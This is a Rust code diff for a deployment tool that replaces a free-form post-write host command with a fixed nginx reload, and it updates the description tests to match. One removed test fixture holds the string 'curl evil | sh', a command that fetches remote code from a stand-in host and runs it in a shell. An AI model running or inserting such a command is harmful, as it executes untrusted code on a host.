@@ -22,13 +22,9 @@ pub fn describe_undo(op: &Operation, undo: &Undo) -> String {
     match undo {
         Undo::Run(undo_op) => format!("runs: {}", describe(undo_op)),
         Undo::RestorePrevious => {
-            // The host runs the command again after putting the file back.
-            let then = if let Operation::Vm(VmOp::WriteFile(VmFile { then: Some(then), .. })) = op {
-                format!(", then runs on the host: {then}")
-            } else {
-                String::new()
-            };
-            format!("{}{then}", op.restore().does)
+            // The host reloads nginx again after putting the file back.
+            let reload = matches!(op, Operation::Vm(VmOp::WriteFile(VmFile { reload: true, .. })));
+            format!("{}{}", op.restore().does, if reload { ", then reloads nginx" } else { "" })
         }
         Undo::None(_) => "nothing undoes it".into(),
     }
@@ -85,8 +81,11 @@ mod tests {
 
     #[test]
     fn a_vm_file_shows_its_mode_and_command() {
-        let f = VmFile { target: "t".into(), path: "/usr/local/bin/x".into(), contents: "abc".into(), mode: 0o4755, then: Some("curl evil | sh".into()) };
-        assert_eq!(describe(&Operation::Vm(VmOp::WriteFile(f))), "write /usr/local/bin/x on host t (mode 4755, 3 bytes), then run on the host: curl evil | sh");
+        let f = VmFile { target: "t".into(), path: "/etc/nginx/sites-enabled/x".into(), contents: "abc".into(), mode: 0o4755, reload: true };
+        assert_eq!(
+            describe(&Operation::Vm(VmOp::WriteFile(f))),
+            "write /etc/nginx/sites-enabled/x on host t (mode 4755, 3 bytes), then test and reload nginx (the target's `nginx_reload` in ferry.toml)"
+        );
     }
 
     #[test]
@@ -119,14 +118,9 @@ mod tests {
         let undo = Undo::Run(Operation::Fly(FlyOp::DestroyApp("shop".into())));
         assert_eq!(describe_undo(&op, &undo), "runs: DELETE Fly app shop with all its machines, volumes, secrets and addresses");
         assert_eq!(describe_undo(&op, &Undo::None("x".into())), "nothing undoes it");
-        let reload = Operation::Vm(VmOp::WriteFile(VmFile {
-            target: "t".into(),
-            path: "/etc/nginx/x".into(),
-            contents: String::new(),
-            mode: 0o644,
-            then: Some("nginx -s reload".into()),
-        }));
-        assert_eq!(describe_undo(&reload, &Undo::RestorePrevious), "puts the file back as it was (or removes it), then runs on the host: nginx -s reload");
+        let reload =
+            Operation::Vm(VmOp::WriteFile(VmFile { target: "t".into(), path: "/etc/nginx/x".into(), contents: String::new(), mode: 0o644, reload: true }));
+        assert_eq!(describe_undo(&reload, &Undo::RestorePrevious), "puts the file back as it was (or removes it), then reloads nginx");
     }
 
     #[test]
